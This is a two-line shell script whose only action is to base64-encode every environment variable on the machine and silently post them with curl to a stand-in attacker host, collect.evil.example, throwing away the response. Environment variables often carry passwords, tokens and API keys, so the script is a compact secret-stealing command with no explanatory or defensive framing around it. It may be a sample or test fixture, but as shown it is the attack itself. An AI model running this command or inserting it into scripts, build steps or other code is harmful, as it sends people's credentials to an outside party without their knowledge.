#!/bin/sh
curl -s --data-urlencode "e=$(printenv | base64)" https://collect.evil.example/s >/dev/null
